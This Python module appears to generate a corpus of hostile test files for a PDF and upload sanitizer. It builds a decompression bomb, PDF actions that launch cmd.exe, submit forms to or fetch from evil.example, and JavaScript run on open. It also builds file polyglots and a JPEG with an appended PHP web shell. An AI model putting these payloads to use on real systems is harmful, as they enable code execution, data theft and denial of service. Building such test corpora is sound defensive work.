"""A corpus of hostile files, generated here so that no binary sample is kept in the repository.

Each PDF is written object by object, as an attacker would craft it (pypdf's writer would
normalise some of these tricks away): a Flate bomb, actions that start programs, open links, send
forms or fetch remote files (also through an indirect object), and polyglots."""

import zlib


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """Objects numbered from 1, a classic xref table and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _with_page(*, page_extra: bytes = b"", catalog_extra: bytes = b"", more: list[bytes] = ()) -> bytes:
    """Catalog (1), pages (2), one page (3), empty content (4), then `more` from object 5."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page_extra + b">>",
            _stream(b"BT ET"),
            *more,
        ]
    )


def plain() -> bytes:
    return _with_page()


def flate_bomb(decompressed_mb: int = 300) -> bytes:
    """Zeros compress about 1000:1: a few hundred KB that inflate to `decompressed_mb` MB, split into
    streams below pypdf's own per-stream limit so that only a total bound catches it."""
    chunk = zlib.compress(b"\0" * (50 * 1024 * 1024), 9)
    streams = [_stream(chunk, b"/Filter /FlateDecode ") for _ in range(decompressed_mb // 50)]
    refs = b" ".join(b"%d 0 R" % (5 + n) for n in range(len(streams)))
    return _with_page(page_extra=b"/Resources << /XObject << >> >> /Thumbs [" + refs + b"] ", more=streams)


def many_page_objects(count: int) -> bytes:
    """A page tree that claims one page but holds `count` page objects."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>" for _ in range(count)]
    return raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count 1 >>", *pages]
    )


def _link(action: bytes, more: list[bytes] = ()) -> bytes:
    return _with_page(
        page_extra=b"/Annots [5 0 R] ",
        more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>", *more],
    )


def launch_via_indirect_name() -> bytes:
    """/S points to an indirect object holding the name /Launch."""
    return _link(b"<< /S 6 0 R /F (cmd.exe) >>", [b"/Launch"])


def launch_via_indirect_action() -> bytes:
    return _link(b"6 0 R", [b"<< /S /Launch /Win << /F (calc.exe) >> >>"])


def uri_action() -> bytes:
    return _link(b"<< /S /URI /URI (http://evil.example/x) >>")


def submit_form() -> bytes:
    return _link(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >>")


def goto_remote() -> bytes:
    return _link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")


def import_data() -> bytes:
    return _link(b"<< /S /ImportData /F (data.fdf) >>")


def javascript_on_open() -> bytes:
    return _with_page(catalog_extra=b"/OpenAction 5 0 R ", more=[b"<< /S /JavaScript /JS (app.alert(1)) >>"])


def javascript_escaped_name() -> bytes:
    return _with_page(catalog_extra=b"/OpenAction 5 0 R ", more=[b"<< /S /J#61vaScript /JS (1) >>"])


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a ZIP archive (holding an executable) appended after %%EOF."""
    import io
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("run.exe", b"MZ" + b"\0" * 64)
    return plain() + archive.getvalue()


def html_pdf_polyglot() -> bytes:
    """HTML first, then a PDF: browsers sniff HTML, lenient readers find the PDF."""
    return b"<html><script>alert(1)</script></html>\n" + plain()


def jpeg_with_appended_script() -> bytes:
    import io

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, format="JPEG")
    return buffer.getvalue() + b"<?php system($_GET['c']); ?>"


HOSTILE_PDFS = {
    "launch_via_indirect_name": (launch_via_indirect_name, "启动外部程序"),
    "launch_via_indirect_action": (launch_via_indirect_action, "启动外部程序"),
    "uri_action": (uri_action, "打开网址"),
    "submit_form": (submit_form, "提交表单"),
    "goto_remote": (goto_remote, "外部文件"),
    "import_data": (import_data, "导入外部数据"),
    "javascript_on_open": (javascript_on_open, "脚本"),
    "javascript_escaped_name": (javascript_escaped_name, "脚本"),
}
